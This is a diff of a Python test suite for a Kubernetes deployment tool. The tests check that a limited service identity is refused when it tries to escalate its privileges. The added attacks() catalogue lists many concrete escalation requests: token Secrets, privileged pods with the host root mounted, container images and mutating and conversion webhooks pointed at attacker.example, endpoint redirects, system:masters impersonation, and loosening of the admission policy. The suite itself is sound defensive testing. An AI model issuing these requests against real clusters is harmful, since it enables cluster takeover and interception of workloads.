@@ -250,21 +250,6 @@ def test_the_identity_cannot_grant_itself_more_than_the_releases_roles(world: di
         "delete the policy's binding": attempt(
             me, "DELETE", "/apis/admissionregistration.k8s.io/v1/"
                           f"validatingadmissionpolicybindings/{ROLE}"),
-    }
-    refused_by_policy = {
-        "add * to a Knative role": attempt(
-            me, "PATCH", f"{cr}/{KNATIVE_ROLE}",
-            cluster_role(KNATIVE_ROLE, core_rules + STAR), apply=True),
-        "bind a Knative role to itself": attempt(
-            me, "PATCH", f"{crb}/{KNATIVE_BINDING}",
-            cluster_binding(KNATIVE_BINDING, knative_binding["roleRef"]["name"],
-                            knative_binding["subjects"] + [ME]), apply=True),
-        "a * Role by a Knative role's name in kube-system": attempt(
-            me, "PATCH", f"/apis/{RBAC}/v1/namespaces/kube-system/roles/"
-                         f"{KNATIVE_NAMESPACED_ROLE}", {
-                "apiVersion": f"{RBAC}/v1", "kind": "Role",
-                "metadata": {"name": KNATIVE_NAMESPACED_ROLE, "namespace": "kube-system"},
-                "rules": STAR}, apply=True),
         "a Deployment in kube-system": attempt(
             me, "POST", "/apis/apps/v1/namespaces/kube-system/deployments", {
                 "apiVersion": "apps/v1", "kind": "Deployment",
@@ -281,6 +266,31 @@ def test_the_identity_cannot_grant_itself_more_than_the_releases_roles(world: di
                              "annotations": {"kubernetes.io/service-account.name":
                                              "default"}},
                 "type": "kubernetes.io/service-account-token"}),
+    }
+    refused_by_policy = {
+        "add * to a Knative role": attempt(
+            me, "PATCH", f"{cr}/{KNATIVE_ROLE}",
+            cluster_role(KNATIVE_ROLE, core_rules + STAR), apply=True),
+        "bind a Knative role to itself": attempt(
+            me, "PATCH", f"{crb}/{KNATIVE_BINDING}",
+            cluster_binding(KNATIVE_BINDING, knative_binding["roleRef"]["name"],
+                            knative_binding["subjects"] + [ME]), apply=True),
+        "a * Role by a Knative role's name in kube-system": attempt(
+            me, "PATCH", f"/apis/{RBAC}/v1/namespaces/kube-system/roles/"
+                         f"{KNATIVE_NAMESPACED_ROLE}", {
+                "apiVersion": f"{RBAC}/v1", "kind": "Role",
+                "metadata": {"name": KNATIVE_NAMESPACED_ROLE, "namespace": "kube-system"},
+                "rules": STAR}, apply=True),
+        "a Deployment in kube-system under a release Deployment's name (apply)": attempt(
+            me, "PATCH", "/apis/apps/v1/namespaces/kube-system/deployments/controller", {
+                "apiVersion": "apps/v1", "kind": "Deployment",
+                "metadata": {"name": "controller", "namespace": "kube-system"},
+                "spec": {"selector": {"matchLabels": {"app": "x"}},
+                         "template": {"metadata": {"labels": {"app": "x"}},
+                                      "spec": {"serviceAccountName": "default",
+                                               "containers": [{"name": "x",
+                                                               "image": "x"}]}}}},
+            apply=True),
     }
     for what, (status, text) in {**refused_by_rbac, **refused_by_policy}.items():
         print(f"{what}: {status} {json.loads(text).get('message', '')[:160]}")
@@ -358,3 +368,280 @@ def test_a_hub_identity_without_the_hub_role_fails_with_its_fix_and_the_role_suf
         cfg, subject(f"ServiceAccount:{register.SPOKE_SA_NAMESPACE}/{HUB_ACCOUNT}"), HUB_ROLE))
     res = stack.run("preview")
     assert res.ok, res.out
+
+
+def send(api: client.ApiClient, method: str, path: str, body: dict | None = None, *,
+         patch: str = "", headers: dict[str, str] | None = None) -> tuple[int, str]:
+    """One request as `api`'s identity: (HTTP status, response text). `patch`: `apply`
+    (server-side apply, forced, by a field manager of the attacker's own), `merge` or
+    `json`."""
+    query = {"fieldManager": "attacker", "force": "true"} if patch == "apply" else {}
+    kinds = {"apply": "application/apply-patch+yaml", "merge": "application/merge-patch+json",
+             "json": "application/json-patch+json"}
+    sent_headers = {"Accept": "application/json", **(headers or {})}
+    if body is not None:
+        sent_headers["Content-Type"] = kinds.get(patch, "application/json")
+    method, url, sent_headers, sent, post = api.param_serialize(
+        method=method, resource_path=path, query_params=list(query.items()),
+        header_params=sent_headers, body=body, auth_settings=["BearerToken"])
+    response = api.call_api(method, url, header_params=sent_headers, body=sent,
+                            post_params=post, _request_timeout=30)
+    response.read()
+    return response.status, response.data.decode("utf-8", "replace")
+
+
+def can_i(api: client.ApiClient, verb: str, resource: str, namespace: str = "",
+          group: str = "") -> bool:
+    """`kubectl auth can-i VERB RESOURCE` as `api`'s identity."""
+    review = client.AuthorizationV1Api(api).create_self_subject_access_review({
+        "spec": {"resourceAttributes": {"verb": verb, "resource": resource, "group": group,
+                                        "namespace": namespace}}})
+    return bool(review.status.allowed)
+
+
+KS, KE = "knative-serving", "knative-eventing"
+APPS = f"/apis/apps/v1/namespaces/{KS}/deployments"
+CORE = f"/api/v1/namespaces/{KS}"
+ADMISSION = "/apis/admissionregistration.k8s.io/v1"
+CRDS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
+
+
+def deployment(name: str, pod: dict) -> dict:
+    return {"apiVersion": "apps/v1", "kind": "Deployment",
+            "metadata": {"name": name, "namespace": KS},
+            "spec": {"selector": {"matchLabels": {"app": name}},
+                     "template": {"metadata": {"labels": {"app": name}}, "spec": pod}}}
+
+
+def webhook_to(service: dict | None = None, url: str = "") -> dict:
+    config = {"url": url} if url else {"service": service}
+    return {"apiVersion": "admissionregistration.k8s.io/v1",
+            "kind": "MutatingWebhookConfiguration",
+            "metadata": {"name": "webhook.serving.knative.dev"},
+            "webhooks": [{"name": "webhook.serving.knative.dev", "clientConfig": config,
+                          "admissionReviewVersions": ["v1"], "sideEffects": "None"}]}
+
+
+def attacks(world: dict) -> dict[str, tuple[str, str, dict | None, str, dict]]:
+    """{what: (method, path, body, patch, headers)}: what an attacker holding the spoke
+    identity tries next, each path Kubernetes documents to more rights: tokens, Secrets,
+    workloads, webhooks, CRDs, labels, bindings, policies, impersonation."""
+    admin = world["s1"].api()
+    core_role = live(admin, f"/apis/{RBAC}/v1/clusterroles/{KNATIVE_ROLE}")
+    privileged = {"serviceAccountName": "controller", "containers": [{
+        "name": "controller", "image": "attacker.example/root:1",
+        "securityContext": {"privileged": True}}]}
+    token_secret = {"apiVersion": "v1", "kind": "Secret", "type":
+                    "kubernetes.io/service-account-token",
+                    "metadata": {"name": "controller-token", "namespace": KS,
+                                 "annotations": {"kubernetes.io/service-account.name":
+                                                 "controller"}}}
+    return {
+        # Tokens and Secrets.
+        "a token Secret for Knative's controller": (
+            "POST", f"{CORE}/secrets", token_secret, "", {}),
+        "a token Secret for Knative's controller (apply)": (
+            "PATCH", f"{CORE}/secrets/controller-token", token_secret, "apply", {}),
+        "a token Secret under a release Secret's name in another release namespace": (
+            "PATCH", f"/api/v1/namespaces/{KE}/secrets/webhook-certs",
+            {**token_secret, "metadata": {**token_secret["metadata"], "namespace": KE,
+                                          "name": "webhook-certs"}}, "apply", {}),
+        "a TokenRequest for Knative's controller": (
+            "POST", f"{CORE}/serviceaccounts/controller/token",
+            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
+             "spec": {"audiences": []}}, "", {}),
+        "write its own certificate into Knative's webhook Secret": (
+            "PATCH", f"{CORE}/secrets/webhook-certs",
+            {"data": {"server-key.pem": base64.b64encode(b"attacker").decode()}}, "merge", {}),
+        # Workloads.
+        "a new Deployment in a release namespace": (
+            "POST", APPS, deployment("fleet-miner", privileged), "", {}),
+        "a privileged Deployment under the release's name, as controller": (
+            "PATCH", f"{APPS}/controller", deployment("controller", privileged), "apply", {}),
+        "another image on the release's controller": (
+            "PATCH", f"{APPS}/controller", {"spec": {"template": {"spec": {"containers": [
+                {"name": "controller", "image": "attacker.example/controller:1"}]}}}},
+            "merge", {}),
+        "another service account on the release's webhook": (
+            "PATCH", f"{APPS}/webhook", {"spec": {"template": {"spec": {
+                "serviceAccountName": "default"}}}}, "merge", {}),
+        "a hostPath volume on the release's activator": (
+            "PATCH", f"{APPS}/activator", {"spec": {"template": {"spec": {"volumes": [
+                {"name": "host", "hostPath": {"path": "/"}}]}}}}, "merge", {}),
+        "host networking on the release's autoscaler": (
+            "PATCH", f"{APPS}/autoscaler", {"spec": {"template": {"spec": {
+                "hostNetwork": True}}}}, "merge", {}),
+        "a Job in a release namespace": (
+            "POST", f"/apis/batch/v1/namespaces/{KS}/jobs", {
+                "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "fleet-job"},
+                "spec": {"template": {"spec": {**privileged, "restartPolicy": "Never"}}}},
+            "", {}),
+        "a Pod in a release namespace": (
+            "POST", f"{CORE}/pods", {"apiVersion": "v1", "kind": "Pod",
+                                     "metadata": {"name": "fleet-pod"}, "spec": privileged},
+            "", {}),
+        "another queue-sidecar-image (injected into every Knative pod)": (
+            "PATCH", f"{CORE}/configmaps/config-deployment",
+            {"data": {"queue-sidecar-image": "attacker.example/queue:1"}}, "merge", {}),
+        "a ConfigMap key the plan does not hold": (
+            "PATCH", f"{CORE}/configmaps/config-features",
+            {"data": {"kubernetes.podspec-hostpath": "enabled"}}, "merge", {}),
+        # Services and endpoints that redirect Knative's webhook.
+        "Knative's webhook Service selecting other pods": (
+            "PATCH", f"{CORE}/services/webhook", {"spec": {"selector": {"app": "activator"}}},
+            "merge", {}),
+        "externalIPs on Knative's webhook Service": (
+            "PATCH", f"{CORE}/services/webhook", {"spec": {"externalIPs": ["203.0.113.7"]}},
+            "merge", {}),
+        "an EndpointSlice for Knative's webhook": (
+            "POST", f"/apis/discovery.k8s.io/v1/namespaces/{KS}/endpointslices", {
+                "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice",
+                "metadata": {"name": "webhook-redirect",
+                             "labels": {"kubernetes.io/service-name": "webhook"}},
+                "addressType": "IPv4", "endpoints": [{"addresses": ["203.0.113.7"]}],
+                "ports": [{"port": 8443}]}, "", {}),
+        # Webhook configurations and CRDs.
+        "a new MutatingWebhookConfiguration": (
+            "POST", f"{ADMISSION}/mutatingwebhookconfigurations",
+            {**webhook_to(url="https://attacker.example/mutate"),
+             "metadata": {"name": "fleet-mutates-everything"}}, "", {}),
+        "Knative's mutating webhook pointed at a URL": (
+            "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
+            webhook_to(url="https://attacker.example/mutate"), "apply", {}),
+        "Knative's mutating webhook pointed at another Service": (
+            "PATCH", f"{ADMISSION}/mutatingwebhookconfigurations/webhook.serving.knative.dev",
+            webhook_to({"name": "activator-service", "namespace": KS}), "apply", {}),
+        "a conversion webhook on a Knative CRD": (
+            "PATCH", f"{CRDS}/services.serving.knative.dev", {"spec": {"conversion": {
+                "strategy": "Webhook", "webhook": {
+                    "conversionReviewVersions": ["v1"],
+                    "clientConfig": {"url": "https://attacker.example/convert"}}}}},
+            "merge", {}),
+        "a conversion webhook on a CRD not the release's": (
+            "PATCH", f"{CRDS}/widgets.attacker.example", {"spec": {"conversion": {
+                "strategy": "None"}}}, "merge", {}),
+        # Labels, owners and RBAC.
+        "aggregate-to-view on a Knative role (every viewer gets Knative's rights)": (
+            "PATCH", f"/apis/{RBAC}/v1/clusterroles/{KNATIVE_ROLE}", cluster_role(
+                KNATIVE_ROLE, core_role["rules"]) | {"metadata": {
+                    "name": KNATIVE_ROLE,
+                    "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}},
+            "apply", {}),
+        "a new role aggregated into Knative's admin role": (
+            "POST", f"/apis/{RBAC}/v1/clusterroles",
+            cluster_role("fleet-aggregated", STAR) | {"metadata": {
+                "name": "fleet-aggregated", "labels": {"serving.knative.dev/controller": "true"}}},
+            "", {}),
+        "a label on a release namespace": (
+            "PATCH", f"/api/v1/namespaces/{KS}", {"metadata": {"labels": {
+                "pod-security.kubernetes.io/enforce": "privileged"}}}, "merge", {}),
+        "an owner reference on a release object": (
+            "PATCH", f"{CORE}/configmaps/config-features", {"metadata": {"ownerReferences": [{
+                "apiVersion": "v1", "kind": "Namespace", "name": "kube-system",
+                "uid": "00000000-0000-0000-0000-000000000000"}]}}, "merge", {}),
+        "a second policy binding that lifts the policy": (
+            "POST", f"{ADMISSION}/validatingadmissionpolicybindings", {
+                "apiVersion": "admissionregistration.k8s.io/v1",
+                "kind": "ValidatingAdmissionPolicyBinding",
+                "metadata": {"name": "fleet-audit-only"},
+                "spec": {"policyName": ROLE, "validationActions": ["Audit"]}}, "", {}),
+        "the policy made to warn only": (
+            "PATCH", f"{ADMISSION}/validatingadmissionpolicybindings/{ROLE}",
+            {"spec": {"validationActions": ["Warn"]}}, "merge", {}),
+        "a Lease in kube-system by another name": (
+            "POST", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases", {
+                "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
+                "metadata": {"name": "kube-controller-manager-x"}}, "", {}),
+        "delete a kube-system ConfigMap": (
+            "DELETE", "/api/v1/namespaces/kube-system/configmaps/extension-apiserver-"
+                      "authentication", None, "", {}),
+        "impersonate system:masters": (
+            "GET", "/api/v1/namespaces/kube-system/secrets", None, "",
+            {"Impersonate-User": "admin", "Impersonate-Group": "system:masters"}),
+        "a CertificateSigningRequest for system:masters": (
+            "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", {
+                "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
+                "metadata": {"name": "fleet-admin"},
+                "spec": {"request": base64.b64encode(b"not a csr").decode(),
+                         "signerName": "kubernetes.io/kube-apiserver-client",
+                         "usages": ["client auth"]}}, "", {}),
+        "exec into a Knative pod": (
+            "POST", f"{CORE}/pods/controller-0/exec?command=sh", None, "", {}),
+    }
+
+
+def target(method: str, path: str, body: dict | None) -> str:
+    """The object a write aims at ("" for a read, a subresource or a non-object)."""
+    if method == "GET" or "/exec" in path or path.endswith("/token"):
+        return ""
+    if method == "POST":
+        return f"{path}/{body['metadata']['name']}" if body else ""
+    return path
+
+
+def stored(admin: client.ApiClient, path: str) -> tuple[int, str]:
+    """(status, resourceVersion) of the object a path names, read as admin."""
+    status, text = attempt(admin, "GET", path.split("?", 1)[0])
+    if status != 200:
+        return status, ""
+    body = json.loads(text)
+    return status, body.get("metadata", {}).get("resourceVersion", "")
+
+
+ADMIN_RIGHTS = [("*", "*", ""), ("create", "pods", KS), ("create", "secrets", "kube-system"),
+                ("create", "serviceaccounts/token", KS),
+                ("impersonate", "users", ""), ("escalate", "clusterroles", ""),
+                ("create", "validatingadmissionpolicybindings", "")]
+
+
+def test_every_path_to_more_rights_is_refused_and_nothing_is_stored(world: dict) -> None:
+    """As the identity with the printed role and policy, on a spoke it installed: each
+    attempt is refused (RBAC's or the policy's 403), the object it aimed at is as it was
+    (read as admin: same resourceVersion, or still absent), no object appeared anywhere,
+    and `kubectl auth can-i '*' '*'` (and each right on the way there) says no before and
+    after."""
+    stack: FleetStack = world["stack"]
+    stack.configure(limited_fleet())
+    assert stack.up().ok
+    me, admin = limited_api(world), world["s1"].api()
+    groups = {"validatingadmissionpolicybindings": "admissionregistration.k8s.io",
+              "clusterroles": RBAC}
+    for verb, resource, namespace in ADMIN_RIGHTS:
+        assert not can_i(me, verb, resource, namespace,
+                         groups.get(resource, "*" if resource == "*" else "")), \
+            (verb, resource, namespace)
+    tried = attacks(world)
+    targets = {what: target(method, path, body)
+               for what, (method, path, body, *_) in tried.items() if target(method, path, body)}
+    before_objects = snapshot(admin)
+    before = {what: stored(admin, path) for what, path in targets.items()}
+    results = {what: send(me, method, path, body, patch=patch, headers=headers)
+               for what, (method, path, body, patch, headers) in tried.items()}
+    for what, (status, text) in results.items():
+        print(f"{what}: {status} {json.loads(text).get('message', '')[:200]}")
+    accepted = {what: status for what, (status, _) in results.items() if status < 300}
+    assert accepted == {}, accepted
+    assert {what: status for what, (status, _) in results.items() if status != 403} == {}
+    after = {what: stored(admin, path) for what, path in targets.items()}
+    assert after == before
+    assert snapshot(admin) == before_objects
+    for verb, resource, namespace in ADMIN_RIGHTS:
+        assert not can_i(me, verb, resource, namespace,
+                         groups.get(resource, "*" if resource == "*" else ""))
+
+
+def test_a_refusal_says_which_fields_are_not_the_plans(world: dict) -> None:
+    """The policy's message names the object and what in it the plan does not hold."""
+    me = limited_api(world)
+    status, text = send(me, "PATCH", f"{CORE}/configmaps/config-deployment",
+                        {"data": {"queue-sidecar-image": "attacker.example/queue:1"}},
+                        patch="merge")
+    assert status == 403
+    message = json.loads(text)["message"]
+    assert f"ValidatingAdmissionPolicy '{ROLE}'" in message, message
+    assert "update /configmaps knative-serving/config-deployment" in message, message
+    assert "values the plan does not hold for: queue-sidecar-image" in message, message
+    status, text = send(me, "PATCH", f"{APPS}/controller", {"spec": {"template": {"spec": {
+        "containers": [{"name": "controller", "image": "attacker.example/c:1"}]}}}},
+        patch="merge")
+    assert status == 403 and "containers whose image" in text and ": controller" in text, text
